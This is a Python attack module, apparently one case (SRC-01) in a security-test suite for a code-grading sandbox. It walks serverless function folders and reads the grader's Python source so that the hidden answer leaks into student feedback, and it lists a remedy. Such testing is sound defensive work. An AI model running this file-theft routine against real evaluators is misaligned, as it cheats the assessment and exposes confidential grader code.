# SPDX-License-Identifier: MIT
"""Goal:  the evaluator's source, with the answer in it.
Means: os.walk and open, in the folders where functions keep their code. The code has to be readable
       for the user that runs it, and that is the student's user too.
"""

import os

from attack import DONE, attempting, denied, loot

FOLDERS = "/var/task", "/var/runtime", "/opt/python", "/function", "/app"
FILES, BYTES = 100, 65536


def sources():
    for top in FOLDERS:
        for folder, _, names in os.walk(top):
            yield from (f"{folder}/{name}" for name in names if name.endswith(".py"))


def run(brief):
    found = 0
    attempting()
    for path, _ in zip(sources(), range(FILES)):
        try:
            with open(path, "rb") as file:
                loot(file.read(BYTES))
            found += 1
        except OSError:
            pass
    return DONE if found else denied("open", "no source in any of the folders")


ATTACK = {
    "effect": "the evaluator's source leaves in the student's feedback",
    "means": "os.walk over the folders where functions keep their code",
    "oracle": "secret:task",
    "quick": True,
    "id": "SRC-01",
    "attack_id": "T1005, T1083, CWE-538",
    "remedy": "Landlock without the function's folder; no answer where a student's uid reads",
    "run": run,
}
